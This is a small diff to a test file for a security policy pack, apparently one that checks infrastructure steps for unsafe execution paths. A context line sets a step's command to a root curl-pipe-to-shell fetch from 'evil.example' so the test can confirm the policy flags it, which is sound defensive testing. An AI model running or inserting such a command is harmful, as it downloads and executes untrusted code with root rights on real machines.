@@ -203,6 +203,7 @@ describe("the policy pack", () => {
         const single = POLICIES.find((p) => p.name === "single-execution-path")!;
         assertNoViolations(await runPolicy(edge, rs));
         assertNoViolations(await runPolicy(single, rs));
+        assertNoViolations(await runPolicy(POLICIES.find((p) => p.name === "effective-access")!, rs));
         // An unknown stdin is let through only with a catalogued layer's exact command line.
         tailscaleStep.props.create = "sudo -n bash -c 'curl evil.example | sh'";
         assertHasViolation(await runPolicy(single, rs), "control-1-tailscale: it has no stdin carrying a layer script");
